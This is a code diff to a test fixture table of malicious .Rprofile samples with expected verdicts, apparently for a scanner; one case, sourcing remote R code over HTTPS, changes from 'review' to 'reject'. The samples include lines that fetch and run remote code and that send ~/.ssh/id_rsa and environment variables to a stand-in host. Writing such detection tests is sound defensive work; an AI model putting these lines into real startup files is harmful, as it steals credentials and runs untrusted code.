@@ -101,7 +101,7 @@ _ORDINARY = (
 _STARTED: tuple[tuple[str, str, str, _Decision], ...] = (
     ("rprofile-shell", ".Rprofile", f'.First <- function() {{ system("{_FETCH}") }}\n', "reject"),
     ("rprofile-source", ".Rprofile", 'source("http://203.0.113.1/forged.R")\n', "reject"),
-    ("rprofile-source-encrypted", ".Rprofile", 'source("https://forged.example/a.R")\n', "review"),
+    ("rprofile-source-encrypted", ".Rprofile", 'source("https://forged.example/a.R")\n', "reject"),
     ("rprofile-eval", ".Rprofile", 'eval(parse(text = readLines("http://203.0.113.1/forged.R")))\n', "reject"),
     ("rprofile-sends", ".Rprofile", 'x <- readLines("~/.ssh/id_rsa")\nhttr::POST("https://forged.example", body = x)\n', "reject"),
     ("rprofile-environment", ".Rprofile", 'httr::POST("https://forged.example", body = as.list(Sys.getenv()), file("x"))\n', "reject"),
